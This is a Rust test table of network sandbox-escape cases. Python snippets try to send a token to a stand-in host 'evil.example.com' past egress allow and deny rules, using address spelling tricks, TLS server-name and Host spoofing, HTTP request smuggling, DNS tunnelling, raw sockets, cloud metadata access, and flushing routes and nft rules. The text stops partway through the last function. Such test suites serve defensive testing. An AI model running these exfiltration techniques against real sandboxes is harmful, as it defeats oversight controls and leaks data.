//! The table of ways around a policy.

/// A policy, with places to fill.
#[derive(Debug, Clone, Copy)]
pub enum Policy {
    Preset(&'static str),
    Allow(&'static [&'static str]),
    /// Everything but these.
    Deny(&'static [&'static str]),
    /// A name that may have private addresses, and a port.
    Private(&'static str, &'static str),
}

/// What shows that a way would lead somewhere.
#[derive(Debug, Clone, Copy)]
pub enum Control {
    /// The same program under a policy that allows it.
    Under(Policy),
    /// A program that does the same to a place that may be reached.
    Code(&'static str, Policy),
    /// The same program outside of any sandbox.
    Outside,
    OutsideCode(&'static str),
    /// The same program under a policy that allows it: the daemon dials, and nobody is there.
    Dialled(Policy),
    DialledCode(&'static str, Policy),
}

#[derive(Debug, Clone, Copy)]
pub struct Way {
    pub name: &'static str,
    pub code: &'static str,
    pub policy: Policy,
    pub control: Control,
    /// Whether it needs a sandbox that can dial whatever it wants, and no proxy. gVisor also takes settings of sockets that have no
    /// effect there, and a proxy does not tell a name without an address from one that does not answer.
    pub is_without_proxy: bool,
}

impl Way {
    const fn without_proxy(self) -> Self {
        Self { is_without_proxy: true, ..self }
    }
}

use Control::{Code, Dialled, DialledCode, Outside, OutsideCode, Under};
use Policy::{Allow, Deny, Preset, Private};

pub(super) const GOOD: Policy = Allow(&["good.example.com"]);
pub(super) const BOTH: Policy = Allow(&["good.example.com", "evil.example.com"]);
pub(super) const EVIL_ADDRESS: Policy = Allow(&["@evil@:80"]);
pub(super) const FULL: Policy = Preset("full");

pub(super) const fn way(name: &'static str, policy: Policy, code: &'static str, control: Control) -> Way {
    Way { name, code, policy, control, is_without_proxy: false }
}

pub fn ways() -> Vec<Way> {
    let dns = dns().into_iter().map(Way::without_proxy).collect();
    [addresses(), ports_and_names(), places(), tls(), http(), dns, other_protocols(), inside()].concat()
}

/// Spellings of an address that no rule allows.
fn addresses() -> Vec<Way> {
    vec![
        way("a raw address", GOOD, "shown(get('@evil@', path='/@token@'))", Under(EVIL_ADDRESS)),
        way(
            "a raw address with an allowed Host",
            GOOD,
            "shown(get('@evil@', path='/@token@', name='good.example.com'))",
            Under(EVIL_ADDRESS),
        ),
        way(
            "a raw address with an allowed server name",
            GOOD,
            "shown(send('@evil@', 443, hello('good.example.com', session=b'@token@')))",
            Under(Allow(&["@evil@:443"])),
        ),
        way(
            "a raw address with no server name",
            GOOD,
            "shown(send('@evil@', 443, hello(None, session=b'@token@')))",
            Under(Allow(&["@evil@:443"])),
        ),
        way(
            "the allowed address without a name",
            Allow(&["other.example.com"]),
            "shown(send('@good@', 80, b'GET /@token@ HTTP/1.0\\r\\n\\r\\n'))",
            Under(Allow(&["@good@:80"])),
        ),
        way(
            "a decimal address",
            GOOD,
            "shown(get(str(int.from_bytes(socket.inet_aton('@evil@'), 'big')), path='/@token@', name='good.example.com'))",
            Under(EVIL_ADDRESS),
        ),
        way(
            "an octal address",
            GOOD,
            "shown(get('.'.join('0%o' % int(n) for n in '@evil@'.split('.')), path='/@token@', name='good.example.com'))",
            Under(EVIL_ADDRESS),
        ),
        way(
            "a hexadecimal address",
            GOOD,
            "shown(get('0x' + socket.inet_aton('@evil@').hex(), path='/@token@', name='good.example.com'))",
            Under(EVIL_ADDRESS),
        ),
        way(
            "a short address",
            GOOD,
            "a, b, c, d = map(int, '@evil@'.split('.')); shown(get(f'{a}.{b}.{c * 256 + d}', path='/@token@', name='good.example.com'))",
            Under(EVIL_ADDRESS),
        ),
        way(
            "an IPv4 address in IPv6",
            GOOD,
            "shown(get('::ffff:@evil@', path='/@token@', name='good.example.com'))",
            Under(EVIL_ADDRESS),
        ),
        way(
            "an IPv4 address for NAT64",
            GOOD,
            "shown(get('64:ff9b::@evil@', path='/@token@', name='good.example.com'))",
            Dialled(Allow(&["[64:ff9b::]/96:80"])),
        ),
        way(
            "an IPv4 address for 6to4",
            GOOD,
            "h = socket.inet_aton('@evil@').hex(); shown(get(f'2002:{h[:4]}:{h[4:]}::1', path='/@token@', name='good.example.com'))",
            Dialled(Allow(&["[2002::]/16:80"])),
        ),
        way(
            "loopback for NAT64",
            Allow(&["[64:ff9b::c633:6400]/120:80"]),
            "shown(get('64:ff9b::127.0.0.1'))",
            DialledCode("shown(get('64:ff9b::@evil@'))", Allow(&["[64:ff9b::c633:6400]/120:80"])),
        ),
        way(
            "an alias of a denied name",
            Deny(&["evil.example.com"]),
            "shown(get('alias.example.com', path='/@token@'))",
            Under(FULL),
        ),
        way(
            "an alias of a name whose port is denied",
            Deny(&["evil.example.com:80"]),
            "shown(get('alias.example.com', path='/@token@'))",
            Under(Deny(&["evil.example.com:81"])),
        ),
        way(
            "a deny rule, by address",
            Deny(&["@evil@/32"]),
            "shown(get('evil.example.com', path='/@token@'))",
            Under(FULL),
        ),
        way(
            "a deny rule, by mapped address",
            Deny(&["@evil@/32"]),
            "shown(get('::ffff:@evil@', path='/@token@'))",
            Under(FULL),
        ),
        way(
            "a deny rule for a range",
            Deny(&["198.51.100.0/24"]),
            "shown(get('@other@', path='/@token@'))",
            Under(FULL),
        ),
    ]
}

fn ports_and_names() -> Vec<Way> {
    vec![
        way(
            "another port",
            GOOD,
            "shown(get('good.example.com', 8080, path='/@token@'))",
            Under(Allow(&["good.example.com:8080"])),
        ),
        way(
            "another protocol's port",
            GOOD,
            "shown(send('good.example.com', 22, b'@token@'))",
            Under(Allow(&["good.example.com:22"])),
        ),
        way(
            "the web port of a rule for another port",
            Allow(&["good.example.com:22"]),
            "shown(get('good.example.com', path='/@token@'))",
            Under(GOOD),
        ),
        way(
            "a port in Host",
            GOOD,
            "shown(get('good.example.com', 8080, path='/@token@', name='good.example.com:80'))",
            Under(Allow(&["good.example.com:8080"])),
        ),
        way(
            "a name below the allowed one",
            GOOD,
            "shown(get('tunnel.good.example.com', path='/@token@'))",
            Under(Allow(&["*.good.example.com"])),
        ),
        way(
            "the parent of a wildcard",
            Allow(&["*.good.example.com"]),
            "shown(get('good.example.com', path='/@token@'))",
            Under(GOOD),
        ),
        way(
            "a name that ends like a wildcard",
            Allow(&["*.good.example.com"]),
            "shown(get('xgood.example.com', path='/@token@'))",
            Under(Allow(&["*.example.com"])),
        ),
        way(
            "a name that begins like the allowed one",
            GOOD,
            "shown(get('good.example.com.evil.example.com', path='/@token@'))",
            Under(Allow(&["*.evil.example.com"])),
        ),
        way(
            "a forbidden name with a trailing dot",
            GOOD,
            "shown(get('evil.example.com.', path='/@token@'))",
            Under(BOTH),
        ),
        way("a forbidden name in upper case", GOOD, "shown(get('EVIL.EXAMPLE.COM', path='/@token@'))", Under(BOTH)),
        way(
            "a denied name in upper case with a dot",
            Deny(&["evil.example.com"]),
            "shown(get('Evil.Example.COM.', path='/@token@'))",
            Under(FULL),
        ),
        way(
            "a denied name by its address",
            Deny(&["evil.example.com"]),
            "shown(get('@evil@', path='/@token@', name='evil.example.com'))",
            Under(FULL),
        ),
        way(
            "a denied name by its address in TLS",
            Deny(&["evil.example.com"]),
            "shown(send('@evil@', 443, hello('evil.example.com', session=b'@token@')))",
            Under(FULL),
        ),
        way(
            "an international spelling",
            GOOD,
            "shown(get('\u{ff45}vil.example.com'.encode('idna').decode(), path='/@token@'))",
            Under(BOTH),
        ),
    ]
}

/// Names that an operator allowed, and that lead to places where no sandbox may go.
fn places() -> Vec<Way> {
    const SELF: &str = "data = talk('loop.example.com', @daemon_port@, b'GET /v1/sessions HTTP/1.0\\r\\n\\r\\n'); print('REACHED' if b'HTTP/1' in data and b'own_address' not in data and b'loopback' not in data else data)";
    const RESOLVED: Control = Code("print('REACHED', resolve('good.example.com'))", GOOD);
    const OWN: &str = "print('REACHED' if b'the host' in talk('own.example.com', @host_port@, b'x') else '')";
    vec![
        way("the daemon by a name", Allow(&["loop.example.com:@daemon_port@"]), SELF, Outside),
        way("the daemon by a private rule", Private("loop.example.com", "@daemon_port@"), SELF, Outside),
        way("the daemon under full", FULL, SELF, Outside),
        way(
            "the daemon by loopback",
            FULL,
            "print('REACHED' if b'HTTP' in talk('127.0.0.1', @daemon_port@, b'GET / HTTP/1.0\\r\\n\\r\\n') else '')",
            Outside,
        ),
        way(
            "the daemon by 0.0.0.0",
            FULL,
            "print('REACHED' if b'HTTP' in talk('0.0.0.0', @daemon_port@, b'GET / HTTP/1.0\\r\\n\\r\\n') else '')",
            Outside,
        ),
        way(
            "the daemon by mapped loopback",
            FULL,
            "print('REACHED' if b'HTTP' in talk('::ffff:127.0.0.1', @daemon_port@, b'GET / HTTP/1.0\\r\\n\\r\\n') else '')",
            Outside,
        ),
        way(
            "the host's own address",
            FULL,
            "print('REACHED' if b'the host' in talk('@host@', @host_port@, b'x') else '')",
            Under(Allow(&["@host@/32:@host_port@"])),
        ),
        way(
            "a name of the host's own address",
            Allow(&["own.example.com:@host_port@"]),
            OWN,
            Under(Private("own.example.com", "@host_port@")),
        ),
        way("a name of the host's own address under full", FULL, OWN, Outside),
        way(
            "a name of 127.9.9.9",
            Private("loop2.example.com", "80"),
            "print('REACHED', resolve('loop2.example.com'))",
            RESOLVED,
        ),
        way(
            "a name of ::1",
            Private("loop6.example.com", "80"),
            "print('REACHED', resolve('loop6.example.com'))",
            RESOLVED,
        ),
        way(
            "a name of mapped loopback",
            Private("mapped.example.com", "80"),
            "print('REACHED', resolve('mapped.example.com'))",
            RESOLVED,
        ),
        way(
            "a name of 0.0.0.0",
            Private("zero.example.com", "80"),
            "print('REACHED', resolve('zero.example.com'))",
            RESOLVED,
        ),
        way(
            "a name of ::",
            Private("zero6.example.com", "80"),
            "print('REACHED', resolve('zero6.example.com'))",
            RESOLVED,
        ),
        way(
            "a name of a private address",
            Allow(&["private.example.com"]),
            "print('REACHED', resolve('private.example.com'))",
            Under(Private("private.example.com", "80")),
        ),
        way(
            "a name of a private address under full",
            FULL,
            "print('REACHED', resolve('private2.example.com'))",
            Under(Private("private2.example.com", "80")),
        ),
        way(
            "a third private address",
            Allow(&["*.example.com"]),
            "print('REACHED', resolve('private3.example.com'))",
            Under(Private("private3.example.com", "80")),
        ),
        way(
            "a shared address of carriers",
            FULL,
            "print('REACHED', resolve('shared.example.com'))",
            Under(Private("shared.example.com", "80")),
        ),
        way(
            "a raw private address",
            FULL,
            "shown(get('10.11.12.13'))",
            Code("print('REACHED', resolve('private.example.com'))", Private("private.example.com", "80")),
        ),
        way(
            "a link-local address",
            Private("link.example.com", "80"),
            "print('REACHED', resolve('link.example.com'))",
            RESOLVED,
        ),
        way(
            "a link-local address of IPv6",
            Private("link6.example.com", "80"),
            "print('REACHED', resolve('link6.example.com'))",
            RESOLVED,
        )
        .without_proxy(),
        way(
            "the metadata service by a name",
            Private("metadata.example.com", "80"),
            "print('REACHED', resolve('metadata.example.com'))",
            RESOLVED,
        ),
        way(
            "the metadata service over IPv6",
            Private("metadata6.example.com", "80"),
            "print('REACHED', resolve('metadata6.example.com'))",
            RESOLVED,
        ),
        way(
            "another cloud's metadata service",
            Private("alibaba.example.com", "80"),
            "print('REACHED', resolve('alibaba.example.com'))",
            RESOLVED,
        ),
        way(
            "the metadata service by its address",
            Allow(&["0.0.0.0/0:80"]),
            "shown(get('169.254.169.254', path='/@token@')); print('REACHED' if b'403' not in get('169.254.169.254') else '')",
            Code("print('REACHED' if b'hello' in get('@evil@') else '')", Allow(&["0.0.0.0/0:80"])),
        ),
        way("loopback under a rule for every address", Allow(&["0.0.0.0/0:@daemon_port@"]), SELF, Outside),
        way(
            "a multicast address",
            Private("multicast.example.com", "80"),
            "print('REACHED', resolve('multicast.example.com'))",
            RESOLVED,
        ),
        way(
            "the broadcast address",
            Private("broadcast.example.com", "80"),
            "print('REACHED', resolve('broadcast.example.com'))",
            RESOLVED,
        )
        .without_proxy(),
    ]
}

/// TLS to an allowed address, for another server.
fn tls() -> Vec<Way> {
    vec![
        way("another server name", GOOD, "shown(send('good.example.com', 443, hello('evil.example.com', session=b'@token@')))", Under(BOTH)),
        way("no server name", GOOD, "shown(send('good.example.com', 443, hello(None, session=b'@token@')))", Under(Allow(&["good.example.com:443"]))),
        way("another server name in many pieces", GOOD, "import time
h = hello('evil.example.com', session=b'@token@')
def pieces():
    for byte in h:
        yield bytes([byte]); time.sleep(0.001)
shown(send('good.example.com', 443, h, pieces=pieces()))", Under(BOTH)),
        way("another server name in two TLS records", GOOD, "h = hello('evil.example.com', session=b'@token@')[5:]
record = lambda part: b'\\x16\\x03\\x01' + struct.pack('>H', len(part)) + part
shown(send('good.example.com', 443, record(h[:60]) + record(h[60:])))", Under(BOTH)),
        way("two server names", GOOD, "n = b'evil.example.com'; e = b'\\0' + struct.pack('>H', len(n)) + n; e = struct.pack('>H', len(e)) + e
shown(send('good.example.com', 443, hello('good.example.com', before=struct.pack('>HH', 0, len(e)) + e, session=b'@token@')))", Under(FULL)),
        way("a server name with NUL", GOOD, "shown(send('good.example.com', 443, hello(b'good.example.com\\0.evil.example.com', session=b'@token@')))", Under(FULL)),
        way("another server name in upper case with a dot", GOOD, "shown(send('good.example.com', 443, hello('EVIL.example.com.', session=b'@token@')))", Under(BOTH)),
        way("an address as server name", GOOD, "shown(send('good.example.com', 443, hello('@evil@', session=b'@token@')))", Under(FULL)),
        way("an empty server name", GOOD, "shown(send('good.example.com', 443, hello('', session=b'@token@')))", Under(FULL)),
        way("a client hello of SSL 2", GOOD, "shown(send('good.example.com', 443, b'\\x80\\x2e\\x01\\x03\\x01\\0\\x15\\0\\0\\0\\x10' + b'@token@' * 6))", Under(Allow(&["good.example.com:443"]))),
        way("a server name of a denied host", Deny(&["evil.example.com"]), "shown(send('good.example.com', 443, hello('evil.example.com', session=b'@token@')))", Under(FULL)),
        way("TLS on the port of HTTP for another server", GOOD, "shown(send('good.example.com', 80, hello('evil.example.com', session=b'@token@')))", Under(BOTH)),
    ]
}

/// HTTP to an allowed address, for another host.
fn http() -> Vec<Way> {
    vec![
        way("another Host", GOOD, "shown(get('good.example.com', path='/@token@', name='evil.example.com'))", Under(BOTH)),
        way("no Host", GOOD, "shown(send('good.example.com', 80, b'GET /@token@ HTTP/1.0\\r\\n\\r\\n'))", Under(Allow(&["good.example.com:80"]))),
        way("an address as Host", GOOD, "shown(get('good.example.com', path='/@token@', name='@evil@'))", Under(Allow(&["good.example.com:80"]))),
        way("the second request has another Host", GOOD, "c = dial('good.example.com', 80); c.sendall(b'GET / HTTP/1.1\\r\\nHost: good.example.com\\r\\n\\r\\n'); some_of(c)
c.sendall(b'GET /@token@ HTTP/1.1\\r\\nHost: evil.example.com\\r\\n\\r\\n'); shown(some_of(c))", Under(BOTH)),
        way("a pipelined request has another Host", GOOD, "shown(send('good.example.com', 80, b'GET / HTTP/1.1\\r\\nHost: good.example.com\\r\\n\\r\\nGET /@token@ HTTP/1.1\\r\\nHost: evil.example.com\\r\\n\\r\\n'))", Under(BOTH)),
        way("a request after a body has another Host", GOOD, "shown(send('good.example.com', 80, b'POST /count HTTP/1.1\\r\\nHost: good.example.com\\r\\nContent-Length: 5\\r\\n\\r\\nhelloGET /@token@ HTTP/1.1\\r\\nHost: evil.example.com\\r\\n\\r\\n'))", Under(BOTH)),
        way("a request after chunks has another Host", GOOD, "shown(send('good.example.com', 80, b'POST / HTTP/1.1\\r\\nHost: good.example.com\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\nGET /@token@ HTTP/1.1\\r\\nHost: evil.example.com\\r\\n\\r\\n'))", Under(BOTH)),
        way("chunks and a length", GOOD, "shown(send('good.example.com', 80, b'POST / HTTP/1.1\\r\\nHost: good.example.com\\r\\nContent-Length: 200\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\nGET /@token@ HTTP/1.1\\r\\nHost: evil.example.com\\r\\n\\r\\n'))", Under(FULL)),
        way("two lengths", GOOD, "shown(send('good.example.com', 80, b'POST / HTTP/1.1\\r\\nHost: good.example.com\\r\\nContent-Length: 0\\r\\nContent-Length: 200\\r\\n\\r\\nGET /@token@ HTTP/1.1\\r\\nHost: evil.example.com\\r\\n\\r\\n'))", Under(FULL)),
        way("an unknown transfer coding", GOOD, "shown(send('good.example.com', 80, b'POST / HTTP/1.1\\r\\nHost: good.example.com\\r\\nTransfer-Encoding: xchunked\\r\\n\\r\\n0\\r\\n\\r\\nGET /@token@ HTTP/1.1\\r\\nHost: evil.example.com\\r\\n\\r\\n'))", Under(FULL)),
        way("chunks of HTTP/1.0", GOOD, "shown(send('good.example.com', 80, b'POST / HTTP/1.0\\r\\nHost: good.example.com\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n64\\r\\nGET /@token@ HTTP/1.1\\r\\nHost: evil.example.com\\r\\n\\r\\n'))", Under(FULL)),
        way("a chunk whose size wraps around", GOOD, "c = dial('good.example.com', 80); c.sendall(b'POST / HTTP/1.1\\r\\nHost: good.example.com\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n'); import time; time.sleep(0.1)
c.sendall(b'10000000000000000\\r\\nGET /@token@ HTTP/1.1\\r\\nHost: evil.example.com\\r\\n\\r\\n'); shown(some_of(c))", Under(FULL)),
        way("a negative length", GOOD, "shown(send('good.example.com', 80, b'POST / HTTP/1.1\\r\\nHost: good.example.com\\r\\nContent-Length: -1\\r\\n\\r\\nGET /@token@ HTTP/1.1\\r\\nHost: evil.example.com\\r\\n\\r\\n'))", Under(FULL)),
        way("two Hosts", GOOD, "shown(send('good.example.com', 80, b'GET /@token@ HTTP/1.1\\r\\nHost: good.example.com\\r\\nHost: evil.example.com\\r\\n\\r\\n'))", Under(FULL)),
        way("a folded Host", GOOD, "shown(send('good.example.com', 80, b'GET /@token@ HTTP/1.1\\r\\nHost: good.example.com\\r\\n evil.example.com\\r\\n\\r\\n'))", Under(FULL)),
        way("a Host with a space before the colon", GOOD, "shown(send('good.example.com', 80, b'GET /@token@ HTTP/1.1\\r\\nHost : evil.example.com\\r\\nHost: good.example.com\\r\\n\\r\\n'))", Under(FULL)),
        way("a Host with a user name", GOOD, "shown(get('good.example.com', path='/@token@', name='good.example.com@evil.example.com'))", Under(FULL)),
        way("a Host with NUL", GOOD, "shown(get('good.example.com', path='/@token@', name='good.example.com\\0.evil.example.com'))", Under(FULL)),
        way("an absolute target of another host", GOOD, "shown(get('good.example.com', path='http://evil.example.com/@token@', name='good.example.com'))", Under(FULL)),
        way("an absolute target and the same Host", GOOD, "shown(get('good.example.com', path='http://evil.example.com/@token@', name='evil.example.com'))", Under(BOTH)),
        way("CONNECT through an allowed host", GOOD, "shown(send('good.example.com', 80, b'CONNECT evil.example.com:443 HTTP/1.1\\r\\nHost: evil.example.com:443\\r\\n\\r\\n@token@'))", Under(FULL)),
        way("CONNECT as the second request", GOOD, "c = dial('good.example.com', 80); c.sendall(b'GET / HTTP/1.1\\r\\nHost: good.example.com\\r\\n\\r\\n'); some_of(c)
c.sendall(b'CONNECT good.example.com:443 HTTP/1.1\\r\\nHost: good.example.com:443\\r\\nX: @token@\\r\\n\\r\\n'); shown(some_of(c))", Under(FULL)),
        way("connect in lower case", GOOD, "shown(send('good.example.com', 80, b'connect evil.example.com:443 HTTP/1.1\\r\\nHost: good.example.com\\r\\nX: @token@\\r\\n\\r\\n'))", Under(FULL)),
        way("a target that is no path", GOOD, "shown(send('good.example.com', 80, b'GET evil.example.com:80/@token@ HTTP/1.1\\r\\nHost: good.example.com\\r\\n\\r\\n'))", Under(FULL)),
        way("HTTP/0.9", GOOD, "shown(send('good.example.com', 80, b'GET /@token@\\r\\n'))", Under(FULL)),
        way("an empty line first", GOOD, "shown(send('good.example.com', 80, b'\\r\\nGET /@token@ HTTP/1.1\\r\\nHost: evil.example.com\\r\\n\\r\\n'))", Under(FULL)),
        way("lines that end with LF", GOOD, "shown(send('good.example.com', 80, b'GET /@token@ HTTP/1.1\\nHost: evil.example.com\\n\\n'))", Under(BOTH)),
        way("HTTP/2 without TLS", GOOD, "shown(send('good.example.com', 80, b'PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n@token@'))", Under(Allow(&["good.example.com:80"]))),
        way("another protocol after an upgrade", GOOD, "c = dial('good.example.com', 80); c.sendall(b'GET / HTTP/1.1\\r\\nHost: good.example.com\\r\\nConnection: Upgrade\\r\\nUpgrade: h2c\\r\\n\\r\\n'); some_of(c)
c.sendall(b'PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n@token@'); shown(some_of(c))", Under(Allow(&["good.example.com:80"]))),
        way("another protocol on the port of HTTPS", GOOD, "shown(send('good.example.com', 443, b'SSH-2.0-@token@\\r\\n'))", Under(Allow(&["good.example.com:443"]))),
        way("a head that never ends", GOOD, "shown(send('good.example.com', 80, b'GET /@token@ HTTP/1.1\\r\\nHost: good.example.com\\r\\n' + b'X: ' + b'y' * 40000 + b'\\r\\nHost: evil.example.com\\r\\n\\r\\n'))", Under(FULL)),
        way("another Host under a deny rule", Deny(&["evil.example.com"]), "c = dial('good.example.com', 80); c.sendall(b'GET / HTTP/1.1\\r\\nHost: good.example.com\\r\\n\\r\\n'); some_of(c)
c.sendall(b'GET /@token@ HTTP/1.1\\r\\nHost: evil.example.com\\r\\n\\r\\n'); shown(some_of(c))", Under(FULL)),
        way("HTTPS for another host on a plain connection", Allow(&["good.example.com:8080"]), "shown(get('good.example.com', 8080, path='/@token@', name='evil.example.com'))", Under(Allow(&["good.example.com:8080", "evil.example.com:8080"]))),
    ]
}

/// Names in questions are a way out too.
fn dns() -> Vec<Way> {
    vec![
        way(
            "a name below a forbidden one",
            GOOD,
            "found('aaaa.tunnel.evil.example.com')",
            Under(Allow(&["*.evil.example.com"])),
        ),
        way(
            "a text record",
            GOOD,
            "found('aaaa.tunnel.evil.example.com', 16)",
            Code("found('aaaa.tunnel.evil.example.com', 1)", Allow(&["*.evil.example.com"])),
        ),
        way(
            "a text record of an allowed name",
            GOOD,
            "found('good.example.com', 16)",
            Code("found('good.example.com', 1)", GOOD),
        ),
        way("a mail record", GOOD, "found('good.example.com', 15)", Code("found('good.example.com', 1)", GOOD)),
        way("all records", GOOD, "found('good.example.com', 255)", Code("found('good.example.com', 1)", GOOD)),
        way("a null record", GOOD, "found('evil.example.com', 10)", Code("found('evil.example.com', 1)", BOTH)),
        way(
            "long labels",
            GOOD,
            "found('.'.join(['x' * 60] * 3) + '.evil.example.com')",
            Code("found('evil.example.com')", BOTH),
        ),
        way(
            "a name with NUL",
            GOOD,
            "found('', labels=[b'good.example.com\\0', b'evil', b'example', b'com'])",
            Code("found('', labels=[b'evil', b'example', b'com'])", BOTH),
        ),
        way(
            "a dot in a label",
            GOOD,
            "found('', labels=[b'evil.example', b'com'])",
            Code("found('', labels=[b'evil', b'example', b'com'])", BOTH),
        ),
        way(
            "a label with high bytes",
            GOOD,
            "found('', labels=['\u{ff45}vil'.encode(), b'example', b'com'])",
            Code("found('', labels=[b'evil', b'example', b'com'])", BOTH),
        ),
        way(
            "a forbidden name over TCP",
            GOOD,
            "print('REACHED' if ask_tcp('evil.example.com')[1] else '')",
            Under(BOTH),
        ),
        way(
            "a name server of its own over UDP",
            FULL,
            "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(3); s.sendto(query('@token@.example.com'), ('@evil@', 53)); shown(some_of(s))",
            Outside,
        ),
        way(
            "a name server of its own under a rule",
            Allow(&["@evil@:53"]),
            "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(3); s.sendto(query('@token@.example.com'), ('@evil@', 53)); shown(some_of(s))",
            Outside,
        ),
    ]
}

fn other_protocols() -> Vec<Way> {
    vec![
        way("UDP", FULL, "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(b'@token@', ('@evil@', 9999)); s.settimeout(2); shown(some_of(s))", Outside),
        way("QUIC", Allow(&["@evil@:443"]), "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(b'@token@', ('@evil@', 443)); s.settimeout(2); shown(some_of(s))", Outside),
        way("UDP over IPv6", FULL, "s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM); s.sendto(b'@token@', ('::ffff:@evil@', 9999)); s.settimeout(2); shown(some_of(s))", Outside),
        way("UDP from the port of DNS", FULL, "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
s.bind(('@host@', 53)); s.sendto(b'@token@', ('@evil@', 9999)); s.settimeout(2); shown(some_of(s))", Outside),
        way("UDP-Lite", FULL, "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 136); s.sendto(b'@token@', ('@evil@', 9999)); print('REACHED')", Outside),
        way("ping", FULL, "s = socket.socket(socket.AF_INET, socket.SOCK_RAW, 1); s.settimeout(3); s.sendto(b'\\x08\\0\\xf7\\xff\\0\\0\\0\\0', ('@evil@', 0)); s.recv(100); print('REACHED')", Outside),
        way("ping without privileges", FULL, "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 1); s.settimeout(3); s.sendto(b'\\x08\\0\\xf7\\xff\\0\\0\\0\\0', ('@evil@', 0)); s.recv(100); print('REACHED')", OutsideCode("s = socket.socket(socket.AF_INET, socket.SOCK_RAW, 1); s.settimeout(3); s.sendto(b'\\x08\\0\\xf7\\xff\\0\\0\\0\\0', ('@evil@', 0)); s.recv(100); print('REACHED')")),
        way("a raw socket", FULL, "socket.socket(socket.AF_INET, socket.SOCK_RAW, 6); print('REACHED')", Outside),
        way("a raw socket of IPv6", FULL, "socket.socket(socket.AF_INET6, socket.SOCK_RAW, 58); print('REACHED')", Outside),
        way("a packet socket", FULL, "socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0); print('REACHED')", Outside),
        way("a virtual machine's socket", FULL, "socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM); print('REACHED')", Outside),
        way("an abstract socket of the host", FULL, "s = socket.socket(socket.AF_UNIX); s.settimeout(3); s.connect('\\0@abstract@'); print('REACHED', some_of(s))", Outside),
        way("TCP Fast Open", GOOD, "s = socket.socket(); s.sendto(b'GET /@token@ HTTP/1.1\\r\\nHost: good.example.com\\r\\n\\r\\n', 0x20000000, ('@evil@', 80)); s.settimeout(5); shown(some_of(s))", Under(EVIL_ADDRESS)).without_proxy(),
        way("Multipath TCP", GOOD, "s = socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262); s.settimeout(5); s.connect(('@evil@', 80)); s.sendall(b'GET /@token@ HTTP/1.1\\r\\nHost: good.example.com\\r\\n\\r\\n'); shown(some_of(s))", OutsideCode("shown(get('@evil@', path='/@token@'))")),
    ]
}

/// Changes to the sandbox's own network, and neighbours.
fn inside() -> Vec<Way> {
    const DIAL: &str = "shown(get('@evil@', path='/@token@'))";
    vec![
        way("the daemon's listener on loopback", FULL, "for host in ['127.0.0.1', '::1']:
    for port in range(1, 10):
        if send(host, port, b'GET /@token@ HTTP/1.1\\r\\nHost: good.example.com\\r\\n\\r\\n') not in [b'ConnectionRefusedError', b'ConnectionResetError', b' then ConnectionResetError']: print('REACHED', host, port)", Code("s = socket.create_server(('127.0.0.1', 4321)); c = dial('127.0.0.1', 4321); a, _ = s.accept(); a.sendall(b'x'); print('REACHED', some_of(c))", FULL)).without_proxy(),
        way("the port of DNS", FULL, "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1); s.bind(('192.0.2.53', 53)); print('REACHED')", Code("s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.bind(('127.0.0.1', 5353)); print('REACHED')", FULL)),
        way("a new interface", FULL, "import subprocess; print('REACHED' if subprocess.run(['ip', 'link', 'add', 'd0', 'type', 'veth', 'peer', 'name', 'd1']).returncode == 0 else '')", OutsideCode("import subprocess; print('REACHED' if subprocess.run(['unshare', '-n', 'ip', 'link', 'add', 'd0', 'type', 'veth', 'peer', 'name', 'd1']).returncode == 0 else '')")),
        way("other routes", GOOD, "import subprocess; print(subprocess.run('ip route flush table local; ip route add default dev lo; ip -6 route flush table local', shell=True, capture_output=True))\nshown(get('@evil@', path='/@token@'))", OutsideCode(DIAL)),
        way("no packet rules", GOOD, "import subprocess; print(subprocess.run('nft flush ruleset; /usr/sbin/nft flush ruleset', shell=True, capture_output=True))\nshown(get('@evil@', path='/@token@'))", OutsideCode(DIAL)),
        way("a network namespace of its own", GOOD, "import subprocess; print(subprocess.run(['unshare', '-n', 'python3', '-c', 'from client import *\\nshown(get(\"@evil@\", path=\"/@token@\"))'], capture_output=True))", OutsideCode(DIAL)),
        way("a user namespace with all rights", GOOD, "import subprocess; print(subprocess.run(['unshare', '-Urn', 'sh', '-c', 'ip link set lo up; ip route add local 0.0.0.0/0 dev lo; nft flush ruleset; python3 -c \"from client import *; shown(get(\\\\\"@evil@\\\\\", path=\\\\\"/@token@\\\\\"))\"'], capture_output=True))", OutsideCode(DIAL)),
        way("the network of another process", FULL, "import ctypes, os
fd = os.open('/proc/1/ns/net', os.O_RDONLY); assert ctypes.CDLL(None).setns(fd, 0) == 0; print('REACHED')", OutsideCode("import ctypes, os
fd = os.open('/proc/self/ns/net', os.O_RDONLY); assert ctypes.CDLL(None).setns(fd, 0) == 0; print('REACHED')")),
        way("an interface by name", GOOD, "c = socket.socket(); c.settimeout(3); c.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b'eth0'); c.connect(('@evil@', 80)); c.sendall(b'@token@'); print(c.recv(10))", OutsideCode(DIAL)),
        way("a mark on packets", FULL, "c = socket.socket(); c.setsockopt(socket.SOL_SOCKET, 36, 1); print('REACHED')", Outside).without_proxy(),
